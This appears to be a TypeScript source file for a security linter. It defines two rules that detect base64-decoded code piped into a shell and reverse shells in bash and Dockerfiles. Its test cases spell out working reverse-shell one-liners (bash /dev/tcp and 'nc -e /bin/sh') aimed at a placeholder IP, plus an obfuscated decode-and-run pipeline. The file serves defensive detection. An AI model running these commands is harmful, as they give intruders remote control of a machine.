/** Shell: obfuscated code and reverse shells. */
import { defineRules } from "../writing/define-rules.ts";
import { shells } from "./interpreters.ts";
import { command } from "../writing/shell-matchers.ts";

export const maliciousCode = defineRules(["bash", "dockerfile"], "security", [
  {
    id: "sh-decoded-text-run",
    severity: "high",
    confidence: "medium",
    cwe: 506,
    title: "Obfuscated code: decoded and executed",
    message:
      "The script decodes a string and runs it, which hides what it does and is typical of malicious code. Write the commands out.",
    rule: {
      kind: "pipeline",
      regex: `(?s)\\|\\s*(?:base64|openssl\\s+(?:enc|base64)|xxd)\\s+(?:-\\S+\\s+)*?(?:-d|-D|--decode|-r)\\b.*\\|\\s*(?:${shells})(?:\\s+-.*)?$`,
    },
    valid: ["echo $KEY | base64 -d > key.pem", "echo a | base64 | sh"],
    invalid: ["echo ZWNobyBoaQ== | base64 -d | sh", "cat a | base64 --decode | bash -s"],
  },
  {
    id: "sh-reverse-shell",
    severity: "critical",
    confidence: "high",
    cwe: 506,
    title: "Reverse shell",
    message:
      "This connects a shell to another machine, which is how intruders keep their access: the other side types commands here. Remove it, and find out how it came here.",
    rule: {
      any: [
        { kind: "redirected_statement", regex: "(?s)^(?:/bin/)?(?:ba|z)?sh\\s+-i\\b.*/dev/tcp/" },
        command("nc|ncat|netcat", [{ regex: "^-[a-z]*e$" }], "-[a-z]*e\\s+/(?:usr/)?bin/(?:ba|z)?sh"),
      ],
    },
    valid: ["nc -z example.com 80"],
    invalid: ["bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "nc -e /bin/sh 192.0.2.1 4444"],
  },
]);
